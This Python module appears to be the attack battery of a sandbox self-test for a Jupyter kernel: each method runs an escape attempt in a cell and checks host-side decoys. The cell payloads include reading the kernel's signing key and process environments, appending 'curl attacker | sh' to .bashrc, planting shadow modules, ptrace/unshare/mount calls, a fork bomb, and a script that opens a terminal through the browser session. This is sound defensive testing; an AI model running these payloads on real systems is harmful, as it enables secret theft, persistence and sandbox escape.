"""The attacks: each runs one cell in the kernel under test, then judges it by the decoys.

The code strings below are the only part of the self-test that runs inside the sandbox (as
cells of the worker); each method's own code runs in the self-test's process, on the host, and
looks at the decoys from outside.  Every attack returns its verdict and one line of evidence.
"""

from __future__ import annotations

import os
import stat
import time
from collections.abc import Callable

from .decoys import DECOY_MODE, DECOY_MTIME, DECOY_TEXT, DOTFILE_TEXT, SECRET_VAR, Decoys
from .kernel import KernelUnderTest
from .verdicts import CONTAINED, ESCAPED, POLICY

#: One attack: its verdict and the evidence for it.
Attack = Callable[[], tuple[str, str]]


class Attacks:
    """The battery's attacks on one kernel, with the decoys that tell whether each got out."""

    def __init__(self, kernel: KernelUnderTest, decoys: Decoys) -> None:
        self.kernel = kernel
        self.decoys = decoys

    def listing(self) -> list[tuple[str, Attack]]:
        """Every attack with the name the table shows, in the order they run."""
        return [
            ("read the kernel's connection file (its signing key)", self.connection_file),
            ("read the kernel's environment (tokens, secrets)", self.environment),
            ("write a file outside the notebook folder", self.write_outside),
            ("change a host file's ACL, xattrs, times or mode", self.metadata),
            ("plant a symlink or FIFO where the Jupyter server reads", self.special_files),
            ("rewrite an existing dot-file (~/.bashrc)", self.dot_file),
            ("plant a module the next kernel process imports", self.planted_module),
            ("leave the sandbox (unshare, mount, ptrace)", self.namespaces),
            ("signal a process outside the sandbox", self.signal),
            ("reach a service on the host's loopback", self.loopback_service),
            ("fork until the host has no pids left", self.fork_bomb),
            ("flood the frontend past the output limit", self.flood),
            ("run a script in the user's browser session", self.active_output),
        ]

    def connection_file(self) -> tuple[str, str]:
        """The signing key would let a cell send the kernel messages as the frontend."""
        res = self.kernel.run(f"print(len(open({self.kernel.km.connection_file!r}).read()))")
        if res.reply.get("status") == "ok":
            return ESCAPED, f"read {res.stdout.strip()} characters"
        return CONTAINED, res.error()

    def environment(self) -> tuple[str, str]:
        """The kernel's variables, directly or through ``/proc/PID/environ`` of the worker's parents."""
        km = self.kernel.km
        kernel_pid = km.provisioner.pid if km.provisioner else os.getpid()
        res = self.kernel.run(
            f"import os\nseen = [os.environ.get({SECRET_VAR!r}, '')]\n"
            f"for pid in (os.getppid(), {kernel_pid}):\n"
            "    try:\n"
            "        seen.append(open(f'/proc/{pid}/environ').read())\n"
            "    except OSError as e:\n"
            "        seen.append(type(e).__name__)\n"
            "print(seen)"
        )
        if self.decoys.secret in res.stdout:
            return ESCAPED, "the kernel's secret variable reached the cell"
        return CONTAINED, f"not in the worker's environment; /proc/PID/environ: {res.stdout.strip()[-60:]}"

    def write_outside(self) -> tuple[str, str]:
        """Append to the decoy file, outside the notebook folder."""
        res = self.kernel.run(f"open({self.decoys.decoy!r}, 'a').write('attacker\\n')")
        with open(self.decoys.decoy) as f:
            changed = f.read() != DECOY_TEXT
        return (
            (ESCAPED, "the decoy changed") if changed else (CONTAINED, res.error() or "no error, no change")
        )

    def metadata(self) -> tuple[str, str]:
        """An ACL, an xattr, times and mode on the decoy: each a change without writing its bytes."""
        acl = b"\x02\x00\x00\x00" + b"".join(
            tag.to_bytes(2, "little") + perm.to_bytes(2, "little") + (0xFFFFFFFF).to_bytes(4, "little")
            for tag, perm in ((1, 6), (4, 6), (32, 6))
        )
        res = self.kernel.run(
            "import os\nout = {}\n"
            f"p = {self.decoys.decoy!r}\n"
            f"for name, call in (('acl', lambda: os.setxattr(p, 'system.posix_acl_access', {acl!r})),\n"
            "                   ('xattr', lambda: os.setxattr(p, 'user.note', b'x')),\n"
            "                   ('utime', lambda: os.utime(p, (0, 0))), ('chmod', lambda: os.chmod(p, 0o666))):\n"
            "    try:\n"
            "        call(); out[name] = 'no error'\n"
            "    except OSError as e:\n"
            "        out[name] = os.strerror(e.errno)\n"
            "print(out)"
        )
        info = os.stat(self.decoys.decoy)
        changed = []
        if stat.S_IMODE(info.st_mode) != DECOY_MODE:
            changed.append(f"mode {oct(stat.S_IMODE(info.st_mode))}")
        if int(info.st_mtime) != DECOY_MTIME:
            changed.append("mtime")
        try:
            if os.listxattr(self.decoys.decoy):
                changed.append("xattrs")
        except OSError:
            pass
        if changed:
            return ESCAPED, "the decoy's " + ", ".join(changed) + " changed"
        return CONTAINED, res.stdout.strip() or res.error()

    def special_files(self) -> tuple[str, str]:
        """A symlink to the decoy or a FIFO, both traps for the Jupyter server that opens them."""
        link, fifo = (os.path.join(self.decoys.notebooks, n) for n in ("link.ipynb", "fifo.ipynb"))
        res = self.kernel.run(
            "import os\nout = []\n"
            f"for call in (lambda: os.symlink({self.decoys.decoy!r}, {link!r}), lambda: os.mkfifo({fifo!r})):\n"
            "    try:\n"
            "        call(); out.append('made')\n"
            "    except OSError as e:\n"
            "        out.append(os.strerror(e.errno))\n"
            "print(out)"
        )
        made = [os.path.basename(p) for p in (link, fifo) if os.path.lexists(p)]
        if made:
            return ESCAPED, f"{made} in the notebook folder"
        return CONTAINED, res.stdout.strip()

    def dot_file(self) -> tuple[str, str]:
        """A line appended to a dot-file runs the next time the user's shell starts."""
        res = self.kernel.run("open('.bashrc', 'a').write('curl attacker | sh\\n')")
        with open(self.decoys.dotfile) as f:
            changed = f.read() != DOTFILE_TEXT
        return (ESCAPED, "the dot-file changed") if changed else (CONTAINED, res.error() or "no change")

    def planted_module(self) -> tuple[str, str]:
        """Modules in the notebook folder that a restarted kernel process might import, unsandboxed."""
        plant = f"open({self.decoys.marker!r}, 'w').write('ran')\n"
        res = self.kernel.run(
            "import os\nplanted = []\n"
            "for name in ('sitecustomize.py', 'json.py', 'jax_kernel.py', 'zmq.py'):\n"
            "    try:\n"
            f"        open(name, 'w').write({plant!r}); planted.append(name)\n"
            "    except OSError:\n"
            "        pass\n"
            "print(planted)"
        )
        self.kernel.restart()
        works = self.kernel.next_cell_works()
        if os.path.exists(self.decoys.marker):
            return ESCAPED, "a planted module ran outside the sandbox after a restart"
        return CONTAINED, f"planted {res.stdout.strip()}; a restart ran none of them (next cell ok: {works})"

    def signal(self) -> tuple[str, str]:
        """SIGKILL to the bystander, a process of the same user outside the sandbox."""
        bystander = self.decoys.bystander
        res = self.kernel.run(f"import os, signal\nos.kill({bystander.pid}, signal.SIGKILL)")
        time.sleep(0.2)
        if bystander.poll() is not None:
            return ESCAPED, "the bystander process was killed"
        return CONTAINED, res.error() or "no error, bystander alive"

    def loopback_service(self) -> tuple[str, str]:
        """A connection to the decoy server on 127.0.0.1."""
        loopback, report = self.decoys.loopback, self.kernel.report
        res = self.kernel.run(
            "import socket\n"
            "try:\n"
            f"    socket.create_connection(('127.0.0.1', {loopback.port}), timeout=3).close(); print('connected')\n"
            "except OSError as e:\n"
            "    print(type(e).__name__)"
        )
        time.sleep(0.3)
        if loopback.connections:
            if "Sandbox.egress = 'host'" in str(report.get("unavailable", {}).get("network", "")):
                return POLICY, "the host's network by the deployer's choice (Sandbox.egress = 'host')"
            if report.get("profile") == "off":
                return POLICY, "the sandbox is off (Sandbox.profile = 'off')"
            return ESCAPED, "the decoy server on 127.0.0.1 saw a connection"
        return CONTAINED, f"the decoy server saw nothing ({res.stdout.strip() or res.error()})"

    def namespaces(self) -> tuple[str, str]:
        """ptrace the bystander, unshare, mount."""
        # In a child of the worker, so that a call that works leaves the worker as it was; the
        # ptrace target is the bystander (outside), never the kernel.
        pid = self.decoys.bystander.pid
        res = self.kernel.run(
            "import ctypes, json, os\nr, w = os.pipe()\n"
            "if os.fork() == 0:\n"
            "    libc = ctypes.CDLL(None, use_errno=True)\n"
            "    out = {}\n"
            "    for name, call in (('ptrace', lambda: libc.ptrace(16, BYSTANDER, None, None)),\n"
            "                       ('unshare', lambda: libc.unshare(0x10000000 | 0x20000)),\n"
            "                       ('mount', lambda: libc.mount(b'none', b'/mnt', b'tmpfs', 0, None))):\n"
            "        out[name] = 'done' if call() == 0 else os.strerror(ctypes.get_errno())\n"
            "    os.write(w, json.dumps(out).encode()); os._exit(0)\n"
            "os.close(w); print(os.read(r, 4096).decode()); os.wait()".replace("BYSTANDER", str(pid))
        )
        traced = False
        try:
            with open(f"/proc/{pid}/status") as f:
                traced = any(line.startswith("TracerPid:") and line.split()[1] != "0" for line in f)
        except OSError:
            pass
        if traced or "done" in res.stdout:
            return ESCAPED, res.stdout.strip() + (" (the bystander was traced)" if traced else "")
        return CONTAINED, res.stdout.strip() or res.error()

    def fork_bomb(self) -> tuple[str, str]:
        """Fork until something stops it; the kernel must run the next cell afterwards."""
        if self.kernel.report.get("profile", "off") == "off":
            return ESCAPED, "not tried: with the sandbox off nothing limits it (Sandbox.profile = 'off')"
        res = self.kernel.run(
            "import os\nr, w = os.pipe(); n = 0; err = None\n"
            "try:\n"
            "    while n < 20000:\n"
            "        if os.fork() == 0:\n"
            "            os.close(w); os.read(r, 1); os._exit(0)\n"
            "        n += 1\n"
            "except OSError as e:\n"
            "    err = type(e).__name__\n"
            "os.close(w)\n"
            "for _ in range(n):\n"
            "    os.wait()\n"
            "print(n, err)",
            timeout=300,
        )
        works = self.kernel.next_cell_works()
        parts = res.stdout.split()
        if len(parts) == 2 and parts[1] == "None":
            return ESCAPED, f"{parts[0]} processes forked with no limit"
        if not works:
            return ESCAPED, "contained, but the next cell fails"
        return CONTAINED, f"stopped after {parts[0] if parts else '?'} processes; the next cell runs"

    def flood(self) -> tuple[str, str]:
        """Three times the output limit, which the kernel must cut whatever the worker does."""
        limit = self.kernel.output_limit
        if not isinstance(limit, int) or limit <= 0:
            return POLICY, "no limit on a cell's output (JaxKernel.output_limit)"
        chunks = min(3 * limit // 1_000_000 + 1, 300)
        res = self.kernel.run(
            "from IPython.display import display\nchunk = 'x' * 1_000_000\n"
            f"for _ in range({chunks}):\n"
            "    display({'text/plain': chunk}, raw=True)",
            timeout=300,
        )
        got = sum(
            len(c.get("data", {}).get("text/plain", "")) for k, c in res.outputs if k == "display_data"
        ) + sum(len(c.get("text", "")) for k, c in res.outputs if k == "stream")
        works = self.kernel.next_cell_works()
        sent = chunks * 1_000_000
        if got > limit + 65536 or not works:
            return ESCAPED, f"{got:,} of {sent:,} characters reached the frontend (limit {limit:,})"
        return (
            CONTAINED,
            f"{got:,} of {sent:,} characters reached the frontend (limit {limit:,}); next cell runs",
        )

    def active_output(self) -> tuple[str, str]:
        """HTML with a script and Javascript output, which would run with the user's session."""
        res = self.kernel.run(
            "from IPython.display import HTML, Javascript, display\n"
            'display(HTML(\'<b>hi</b><script>fetch("/api/terminals", {method: "POST"})</script>\'))\n'
            'display(Javascript(\'fetch("/api/terminals", {method: "POST"})\'))'
        )
        sent = [c.get("data", {}) for k, c in res.outputs if k == "display_data"]
        scripts = [
            m
            for d in sent
            for m, v in d.items()
            if m == "application/javascript" or "<script" in str(v).lower()
        ]
        if not scripts:
            return CONTAINED, f"{len(sent)} outputs reached the frontend without scripts"
        report = self.kernel.report
        if report.get("profile") == "off" or "active_outputs" not in report.get("active", {}):
            return POLICY, "scripts reach the browser (Sandbox.active_outputs = 'allow')"
        return ESCAPED, f"scripts reached the frontend: {scripts}"
